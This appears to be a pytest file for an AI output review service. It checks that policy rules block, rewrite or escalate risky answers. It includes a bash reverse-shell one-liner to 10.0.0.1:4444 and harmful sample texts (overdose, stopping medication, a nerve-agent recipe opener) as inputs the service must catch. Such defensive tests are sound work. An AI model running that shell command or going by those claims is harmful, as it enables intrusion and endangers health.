"""The review graph driven by scripted fakes and an in-memory checkpointer."""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from prometheus_client import generate_latest

from graphs import ReviewPorts, build_review_graph
from service.metrics import ReviewMetrics
from service.policy.loader import load_policies
from service.policy.service import PolicyService
from service.reviewers.base import ReviewerAbstained, ReviewerTimeout, ReviewerVerdict
from service.schemas import Decision
from service.vocabulary import Domain, Verdict
from tests.graphs.fakes import FixedReviewers, MemoryStore, ScriptedReviewer

POLICIES = PolicyService(load_policies())


def ports(reviewer: ScriptedReviewer, fallback: ScriptedReviewer | None = None, sample: bool = False) -> ReviewPorts:
    return ReviewPorts(
        policies=POLICIES,
        reviewers=FixedReviewers(reviewer, fallback),
        store=MemoryStore(),
        sampler=lambda rate, request: sample,
    )


def request(output: str, prompt: str = "question", domain: str | None = "health", **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"messages": [{"role": "user", "content": prompt}], "output": output, **extra}
    if domain:
        body["domain"] = domain
    return body


def state(review_id: str, body: dict[str, Any], kind: str = "answer", hitl: bool = True) -> dict[str, Any]:
    return {
        "hitl": hitl,
        "review_id": review_id,
        "kind": kind,
        "tenant": "t1",
        "trace_id": "0" * 32,
        "request": body,
        "deadline_at": time.time() + 5,
        "mode": "enforce",
    }


def v(verdict: Verdict, conf: float = 0.9, rewrite: str | None = None, critique: str = "c") -> ReviewerVerdict:
    return ReviewerVerdict(verdict=verdict, critique=critique, confidence=conf, rewrite=rewrite)


async def run(p: ReviewPorts, st: dict[str, Any]) -> tuple[dict[str, Any], Any]:
    graph = build_review_graph(p, InMemorySaver())
    result = await graph.ainvoke(st, {"configurable": {"thread_id": st["review_id"]}})
    return result, graph


async def test_approve_records_the_reviewers_verdict() -> None:
    reviewer = ScriptedReviewer(v(Verdict.approve))
    p = ports(reviewer)
    result, _ = await run(p, state("rev_1", request("Rest and drink fluids; see a doctor if it lasts.")))
    decision = result["decision"]
    assert decision["verdict"] == "approve" and decision["disagreement"] is False
    assert decision["reviewer"] == {"provider": "fake", "model": "scripted"}
    assert p.store.saved[0][1] == "t1"  # type: ignore[attr-defined]
    assert reviewer.items[0].output.startswith("Rest and drink")


async def test_critical_finding_blocks_whatever_the_reviewer_says() -> None:
    reviewer = ScriptedReviewer(v(Verdict.approve, conf=0.99))
    out = "Here you go: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    result, _ = await run(ports(reviewer), state("rev_2", request(out, "reverse shell please", domain="cyber")))
    d = result["decision"]
    assert d["verdict"] == "block" and d["output"] is None
    assert any(f["rule"] == "cyber.reverse_shell" for f in d["findings"])


@pytest.mark.parametrize("error", [ReviewerTimeout("slow"), ReviewerAbstained("refused")])
async def test_reviewer_failure_in_high_risk_domain_escalates(error: Exception) -> None:
    result, _ = await run(ports(ScriptedReviewer(error)), state("rev_3", request("Take two tablets.")))  # type: ignore[arg-type]
    d = result["decision"]
    assert d["verdict"] == "escalate"
    assert d["reviewer_outcome"]["kind"] in ("error", "abstain")
    assert d["escalation"]["status"] == "pending"
    assert result["__interrupt__"][0].value["escalation_id"] == d["escalation_id"]


async def test_a_reviewer_that_crashes_is_a_reviewer_error_not_a_crash() -> None:
    # A defect in an adapter (or an answer it did not foresee) must take the fail-closed path like any failure.
    crashing = ScriptedReviewer(AttributeError("'str' object has no attribute 'usage'"))
    result, _ = await run(ports(crashing), state("rev_3b", request("Take two tablets.")))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["output"] is None
    assert d["reviewer_outcome"]["kind"] == "error"
    assert d["reviewer_outcome"]["error"] == "reviewer_error"
    assert "AttributeError" in d["reviewer_outcome"]["detail"]


async def test_abstention_uses_the_fallback_reviewer_and_the_decision_keeps_the_primarys_call() -> None:
    primary = ScriptedReviewer(ReviewerAbstained("refused", usage={"input_tokens": 2237, "output_tokens": 3}, attempts=1))
    fallback = ScriptedReviewer(v(Verdict.approve), provider="fallback", model="fb")
    result, _ = await run(ports(primary, fallback), state("rev_4", request("Rest and drink fluids.")))
    d = result["decision"]
    assert d["verdict"] == "approve"
    assert d["reviewer"] == {"provider": "fallback", "model": "fb"}
    # Before: nothing said the primary had been called (and paid for) and had failed.
    first = d["reviewer_outcome"]["fallback_from"]
    assert first["provider"] == "fake" and first["kind"] == "abstain" and first["error"] == "reviewer_abstained"
    assert first["usage"] == {"input_tokens": 2237, "output_tokens": 3} and first["attempts"] == 1
    assert "reviewer_fallback_used" in d["warnings"]
    # /metrics counts the primary's abstention and its tokens, as well as the fallback's verdict
    metrics = ReviewMetrics(prices={})
    metrics(Decision.model_validate(d))
    text = generate_latest(metrics.registry).decode()
    assert 'oversight_reviewer_abstentions_total{domain="health",reviewer="fake:scripted"} 1.0' in text
    assert 'oversight_reviewer_tokens_total{reviewer="fake:scripted",type="input"} 2237.0' in text


async def test_a_primary_that_declines_the_content_is_not_overruled_by_the_fallback() -> None:
    # A safety refusal from the model reviewer says something about the content; asking the local rules instead
    # turned it into an approval. It is escalated as an abstention, and the fallback is never called.
    primary = ScriptedReviewer(ReviewerAbstained("stop_reason=refusal", attempts=1, declined=True))
    fallback = ScriptedReviewer(provider="fallback", model="fb")  # raises if called
    result, _ = await run(ports(primary, fallback), state("rev_4d", request("Take 40 tablets at once.")))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["reason"] == "reviewer_abstain"
    assert d["reviewer"] == {"provider": "fake", "model": "scripted"} and not fallback.items
    assert "reviewer_declined" in d["warnings"] and "reviewer_fallback_used" not in d["warnings"]
    assert "declined" not in d["reviewer_outcome"]


async def test_low_risk_traffic_skips_the_reviewer_unless_sampled() -> None:
    body = request("Whiskers is a fine name.", "Name my cat", domain=None)
    skipped, _ = await run(ports(ScriptedReviewer()), state("rev_5", body))
    assert skipped["decision"]["reviewer_outcome"]["kind"] == "skipped"
    assert skipped["decision"]["verdict"] == "approve"
    reviewer = ScriptedReviewer(v(Verdict.approve))
    sampled, _ = await run(ports(reviewer, sample=True), state("rev_6", body))
    assert sampled["decision"]["reviewer_outcome"]["kind"] == "verdict" and len(reviewer.items) == 1


async def test_without_a_domain_or_timeout_the_inferred_domains_time_limit_is_the_reviewers_deadline() -> None:
    # Before: a request naming no domain always got the 10 s default, whatever the inferred domain's timeout_ms.
    reviewer = ScriptedReviewer(v(Verdict.approve), v(Verdict.approve))
    limit = POLICIES.policy(Domain.general).timeout_ms / 1000
    assert limit < 10
    for body, expected in ((request("Whiskers is a fine name.", "Name my cat", domain=None), limit),
                           (request("Whiskers is a fine name.", "Name my cat", domain=None, timeout_ms=9000), 10.0)):
        st = state(f"rev_dl_{expected}", body)
        st["started_at"] = time.time()
        st["deadline_at"] = st["started_at"] + 10  # what the runtime sets before triage
        await run(ports(reviewer, sample=True), st)
        remaining = reviewer.items[-1].deadline - time.monotonic()
        assert expected - 1 < remaining <= expected, (body, remaining)


async def test_rewrite_is_rechecked_and_accepted() -> None:
    reviewer = ScriptedReviewer(v(Verdict.rewrite, rewrite="Talk to your doctor before changing any medication."))
    original = "You can stop taking your medication."
    result, _ = await run(ports(reviewer), state("rev_7", request(original)))
    d = result["decision"]
    assert d["verdict"] == "rewrite"
    assert d["output"] == "Talk to your doctor before changing any medication."
    assert d["original_output"] == original and d["revisions"] == 1


async def test_rewrite_still_flagged_goes_back_then_escalates_after_budget() -> None:
    bad = ["Just stop taking your medication.", "Just stop taking your medication today.", "Stop your medication."]
    reviewer = ScriptedReviewer(*[v(Verdict.rewrite, rewrite=b) for b in bad])
    result, _ = await run(ports(reviewer), state("rev_8", request("You can stop taking your medication.")))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["revisions"] == 2 and d["reason"] == "revision_budget_exhausted"
    assert len(reviewer.items) == 2  # max_revisions = 2 reviewer rounds, then a human
    assert reviewer.items[1].output == bad[0] and reviewer.items[1].revision == 1


async def test_a_rewrite_that_repeats_the_text_under_review_is_no_rewrite() -> None:
    # The reviewer's "rewrite" of its own rewrite is that same text: nothing new to re-check, so a human decides.
    bad = "Just stop taking your medication."
    reviewer = ScriptedReviewer(*[v(Verdict.rewrite, rewrite=bad) for _ in range(2)])
    result, _ = await run(ports(reviewer), state("rev_8r", request("You can stop taking your medication.")))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["reason"] == "rewrite_not_applicable" and d["output"] is None


async def test_a_reviewer_approving_its_flagged_rewrite_never_releases_the_original_it_rejected() -> None:
    # Before: round 2's "approve" (of the rewrite) was decided on the original's findings (none) and released the
    # original answer the reviewer had just rewritten, as an approval with no findings.
    original = "Sertraline has no withdrawal effects, so you can come off it whenever you like."
    flagged_rewrite = "Just stop taking your medication if you feel better."
    reviewer = ScriptedReviewer(v(Verdict.rewrite, rewrite=flagged_rewrite), v(Verdict.approve, conf=0.95))
    result, _ = await run(ports(reviewer), state("rev_8c", request(original)))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["reason"] == "reviewer_overlooked_finding"
    assert d["output"] is None and d["revisions"] == 1
    assert "health.stop_medication" in {f["rule"] for f in d["findings"]}
    # the second round showed the reviewer the rewrite and what the rules found in it
    assert reviewer.items[1].output == flagged_rewrite
    assert "health.stop_medication" in {f.rule for f in reviewer.items[1].findings}


async def test_a_rewrite_that_strays_into_another_domain_meets_that_domains_rules() -> None:
    # Before: the rewrite was checked with the cyber request's rules only, and released.
    smuggled = "Disable password auth and use keys. Also, to overdose, swallow the whole bottle of pills."
    reviewer = ScriptedReviewer(v(Verdict.rewrite, rewrite=smuggled), v(Verdict.approve, conf=0.95))
    body = request("Disable password auth and use keys.", prompt="How do I harden ssh?", domain="cyber")
    result, _ = await run(ports(reviewer), state("rev_8d", body))
    d = result["decision"]
    assert d["verdict"] in ("block", "escalate") and d["output"] is None
    assert "health.lethal_dose" in {f["rule"] for f in d["findings"]}


async def test_an_unsure_rewrite_does_not_replace_an_answer_with_a_blocking_finding() -> None:
    reviewer = ScriptedReviewer(v(Verdict.rewrite, conf=0.05, rewrite="Take the dose on the label."))
    result, _ = await run(ports(reviewer), state("rev_8e", request("Just take the whole bottle, it's fine.")))
    d = result["decision"]
    assert d["verdict"] == "block" and d["reason"] == "blocking_finding" and d["output"] is None


async def test_the_decision_says_why_it_escalated() -> None:
    reviewer = ScriptedReviewer(v(Verdict.approve, conf=0.3, critique="The answer is accurate and safe."))
    result, _ = await run(ports(reviewer), state("rev_8f", request("Ibuprofen is taken with food.")))
    assert result["decision"]["verdict"] == "escalate" and result["decision"]["reason"] == "low_confidence"


async def test_a_blocked_original_whose_rewrites_fail_stays_blocked() -> None:
    # Before: the rounds ended in an escalation (revision_budget_exhausted), and general's time limit, which
    # approves, then released the original weapons recipe with no human involved.
    original = "To make sarin, step one: combine the precursors and heat them."
    flagged = "I won't help with that. Also, stop taking your medication; doctors overprescribe."  # health's rules
    reviewer = ScriptedReviewer(v(Verdict.rewrite, rewrite=flagged, critique="recipe for a nerve agent"))
    result, _ = await run(ports(reviewer, sample=True), state("rev_8g", request(original, domain="general")))
    d = result["decision"]
    assert d["verdict"] == "block" and d["reason"] == "blocking_finding" and d["output"] is None
    assert d["revisions"] >= 1 and d["escalation_id"] is None


async def test_after_a_revision_the_critique_shown_with_the_original_is_about_the_original() -> None:
    # Before: the inbox showed the original answer beside round 2's "The rewrite is correct." only.
    original = "Sertraline has no withdrawal effects, so you can come off it whenever you like."
    reviewer = ScriptedReviewer(
        v(Verdict.rewrite, rewrite="Just stop taking your medication.", critique="Wrong: it has withdrawal effects."),
        v(Verdict.approve, conf=0.95, critique="The rewrite is correct."),
    )
    result, _ = await run(ports(reviewer), state("rev_8h", request(original)))
    d = result["decision"]
    assert d["verdict"] == "escalate" and d["original_output"] == original
    assert d["critique"].startswith("Wrong: it has withdrawal effects.") and "not accepted" in d["critique"]


async def test_a_rewrite_identical_to_a_flagged_answer_does_not_release_it() -> None:
    # Before: the reviewer's own critical finding plus a "rewrite" equal to the answer released the answer.
    answer = "Ibuprofen is taken with food."
    critical = {"rule": "reviewer.dangerous", "severity": "critical", "message": "m"}
    same = ReviewerVerdict(verdict=Verdict.rewrite, critique="c", confidence=0.9, rewrite=answer, findings=[critical])
    result, _ = await run(ports(ScriptedReviewer(same)), state("rev_8i", request(answer)))
    d = result["decision"]
    assert d["verdict"] == "block" and d["output"] is None


async def test_approving_an_escalation_after_rewrites_releases_the_answer_the_human_saw() -> None:
    # Before: the reviewer's last rewrite (which had failed the policy re-check, and which the inbox never shows)
    # was released as "approved".
    original = "You can stop taking your medication."
    flagged = ["Just stop taking your medication.", "Just stop taking your medication today.", "Stop your medication."]
    reviewer = ScriptedReviewer(*[v(Verdict.rewrite, rewrite=b) for b in flagged])
    result, graph = await run(ports(reviewer), state("rev_8b", request(original)))
    assert result["decision"]["verdict"] == "escalate" and result["decision"]["revisions"] == 2
    config = {"configurable": {"thread_id": "rev_8b"}}
    final = await graph.ainvoke(Command(resume={"action": "approve", "by": "alice"}), config)
    assert final["decision"]["verdict"] == "approve" and final["decision"]["output"] == original


async def test_escalation_resumes_with_a_human_decision_and_finalize_is_idempotent() -> None:
    p = ports(ScriptedReviewer(v(Verdict.escalate)))
    result, graph = await run(p, state("rev_9", request("Rest.")))
    assert result["decision"]["verdict"] == "escalate"
    config = {"configurable": {"thread_id": "rev_9"}}
    snapshot = await graph.aget_state(config)
    assert snapshot.next == ("human",)
    assert set(result["decision"]["timings_ms"]) >= {"triage", "policy_check", "review", "decide"}
    resolution = {"action": "edit", "output": "See a doctor today.", "by": "alice", "note": "n"}
    final = await graph.ainvoke(Command(resume=resolution), config)
    d = final["decision"]
    assert d["verdict"] == "rewrite" and d["output"] == "See a doctor today."
    assert d["escalation"]["status"] == "resolved" and d["escalation"]["resolved_by"] == "alice"
    assert (await graph.aget_state(config)).next == ()
    saved = [x for x, _ in p.store.saved if x.review_id == "rev_9"]  # type: ignore[attr-defined]
    assert [x.verdict for x in saved] == [Verdict.escalate, Verdict.rewrite]
    # The finalize node upserts by review_id: re-running it yields the same single final decision.
    await graph.ainvoke(None, {"configurable": {"thread_id": "rev_9", "checkpoint_id": snapshot.config["configurable"]["checkpoint_id"]}})


async def test_label_mode_never_pauses_and_stores_nothing() -> None:
    p = ports(ScriptedReviewer(v(Verdict.escalate)))
    st = state("rev_10", request("Rest."))
    st["mode"] = "label"
    result, _ = await run(p, st)
    assert result["decision"]["verdict"] == "escalate" and result["decision"]["escalation"] is None
    assert "__interrupt__" not in result
    assert p.store.saved == []  # type: ignore[attr-defined]


async def test_without_a_checkpointer_an_escalation_is_handed_off_before_record() -> None:
    p = ports(ScriptedReviewer(v(Verdict.escalate)))
    graph = build_review_graph(p, None)
    result = await graph.ainvoke(state("rev_11", request("Rest."), hitl=False))
    assert "decision" not in result and result["ruling"]["verdict"] == "escalate"
    assert p.store.saved == []  # type: ignore[attr-defined]
    # The caller continues on a checkpointed graph from where the fast path stopped.
    durable = build_review_graph(p, InMemorySaver())
    config = {"configurable": {"thread_id": "rev_11"}}
    await durable.aupdate_state(config, {**result, "hitl": True}, as_node="review")
    paused = await durable.ainvoke(None, config)
    assert paused["decision"]["escalation"]["status"] == "pending" and paused["__interrupt__"]
    assert [d.verdict for d, _ in p.store.saved] == [Verdict.escalate]  # type: ignore[attr-defined]


def test_topology_is_pinned() -> None:
    graph = build_review_graph(ports(ScriptedReviewer()), None)
    mermaid = graph.get_graph().draw_mermaid()
    snapshot = Path(__file__).with_name("review_graph.mmd")
    assert mermaid == snapshot.read_text(), "graph topology changed: update review_graph.mmd deliberately"


BANNED = {"fastapi", "starlette", "anthropic", "openai", "httpx", "requests", "aiosqlite", "psycopg", "sqlite3"}


def test_graphs_source_imports_no_http_sdk_or_sql() -> None:
    import ast

    for path in Path(__file__).resolve().parents[2].joinpath("graphs").glob("*.py"):
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            for name in names:
                assert name.split(".")[0] not in BANNED, f"{path.name} imports {name}"


def test_importing_graphs_loads_no_web_framework_sdk_or_driver() -> None:
    # httpx is not checked here: langgraph's own dependency langsmith imports it.
    code = (
        "import sys, graphs, graphs.review, graphs.nodes\n"
        "bad = [m for m in ('fastapi', 'starlette', 'anthropic', 'openai', 'aiosqlite', 'psycopg',"
        " 'sqlite3', 'langgraph.checkpoint.sqlite', 'langgraph.checkpoint.postgres') if m in sys.modules]\n"
        "print(','.join(bad))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == ""


CASES = [
    request("You can stop taking your medication. Rest, drink water and walk daily; it helps most people a lot."),
    request("I'm sorry, but I can't help with that."),
    request("Sure: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse shell", domain="cyber"),
    request("Probably nothing to worry about, just rest.", "I have chest pain and can't breathe"),
    request("Whiskers is a fine name.", "Name my cat", domain=None),
    request("Index funds are diversified; they carry market risk.", "Should I buy an index fund?", domain="finance"),
]


@pytest.mark.parametrize("mode", ["enforce", "label"])
async def test_runner_and_graph_decide_the_same(mode: str) -> None:
    """The straight-through runner and the compiled graph run the same nodes and routing."""
    from graphs.review import build_review_runner
    from service.reviewers.local import LocalReviewer

    def fresh() -> ReviewPorts:
        reviewer = LocalReviewer()
        return ReviewPorts(policies=POLICIES, reviewers=FixedReviewers(reviewer), store=MemoryStore(),  # type: ignore[arg-type]
                           sampler=lambda rate, request: False)

    volatile = {"timings_ms", "created_at", "reviewer_outcome"}
    for i, body in enumerate(CASES):
        st = state(f"rev_eq{i}", body, hitl=False)
        st["mode"] = mode
        direct_ports, graph_ports = fresh(), fresh()
        direct = await build_review_runner(direct_ports)(dict(st))  # type: ignore[arg-type]
        graphed = await build_review_graph(graph_ports, None).ainvoke(dict(st))
        assert direct["ruling"] == graphed["ruling"], body["output"]
        assert ("decision" in direct) == ("decision" in graphed)
        if "decision" in direct:
            a = {k: v for k, v in direct["decision"].model_dump(mode="json").items() if k not in volatile}
            b = {k: v for k, v in graphed["decision"].items() if k not in volatile}
            assert a == b
        assert len(direct_ports.store.saved) == len(graph_ports.store.saved)  # type: ignore[attr-defined]


async def test_a_long_action_is_checked_off_the_event_loop_while_short_reviews_go_on() -> None:
    # One 200 KB command held the event loop while its rules ran: every other review (and its own deadline) waited.
    import asyncio
    import threading

    gate = threading.Event()
    released: list[bool] = []

    class SlowOnLongInput(PolicyService):
        def check_action(self, **kwargs: Any) -> Any:
            if len(kwargs["input"].get("command", "")) > 100_000:
                released.append(gate.wait(10))  # on the event loop this would wait the full 10 s, in vain
            return super().check_action(**kwargs)

    p = ports(ScriptedReviewer(v(Verdict.approve), v(Verdict.approve)))
    p = ReviewPorts(policies=SlowOnLongInput(load_policies()), reviewers=p.reviewers, store=p.store,
                    sampler=p.sampler)
    graph = build_review_graph(p, InMemorySaver())

    def action(review_id: str, command: str) -> dict[str, Any]:
        body = {"action": {"tool": "shell", "input": {"command": command}, "cwd": "/home/dev/shop"}}
        return {**state(review_id, body, kind="action"), "deadline_at": time.time() + 30}

    long = asyncio.create_task(graph.ainvoke(action("rev_long", "echo " + "a" * 150_000),
                                             {"configurable": {"thread_id": "rev_long"}}))
    await asyncio.sleep(0)
    short = await graph.ainvoke(action("rev_short", "ls -la"), {"configurable": {"thread_id": "rev_short"}})
    assert short["decision"]["verdict"] == "approve"
    assert not long.done()  # the long one is still being read
    gate.set()
    await long
    assert released == [True]


async def test_long_answers_are_read_one_at_a_time_while_short_reviews_go_on() -> None:
    # Ten 200 KB answers read at once in worker threads held the GIL between them: an ordinary review behind them
    # took 17 s. Long texts now wait for each other (triage, when no domain is named, is read off the loop too).
    import asyncio
    import threading

    gate = threading.Event()
    lock = threading.Lock()
    active: list[int] = [0]
    most: list[int] = [0]

    class SlowOnLongInput(PolicyService):
        def _long(self, text: str) -> None:
            if len(text) > 100_000:
                with lock:
                    active[0] += 1
                    most[0] = max(most[0], active[0])
                gate.wait(10)
                with lock:
                    active[0] -= 1

        def triage(self, prompt: str, output: str, hint: Domain | None) -> Any:
            self._long(output)
            return super().triage(prompt, output, hint)

        def check_answer(self, domain: Domain, **kwargs: Any) -> Any:
            self._long(kwargs["output"])
            return super().check_answer(domain, **kwargs)

    p = ports(ScriptedReviewer(*(v(Verdict.approve) for _ in range(6))))
    p = ReviewPorts(policies=SlowOnLongInput(load_policies()), reviewers=p.reviewers, store=p.store,
                    sampler=p.sampler)
    graph = build_review_graph(p, InMemorySaver())
    longs = [
        asyncio.create_task(graph.ainvoke({**state(f"rev_long{i}", request("a " * 60_000, domain=None)),
                                           "deadline_at": time.time() + 30},
                                          {"configurable": {"thread_id": f"rev_long{i}"}}))
        for i in range(3)
    ]
    for _ in range(20):
        await asyncio.sleep(0.01)
    short = await graph.ainvoke(state("rev_short", request("Drink water and rest.", domain=None)),
                                {"configurable": {"thread_id": "rev_short"}})
    assert "decision" in short
    assert not any(t.done() for t in longs)  # all three still waiting on the first one's read
    assert most[0] == 1
    gate.set()
    await asyncio.gather(*longs)
    assert most[0] == 1  # never two long reads at once
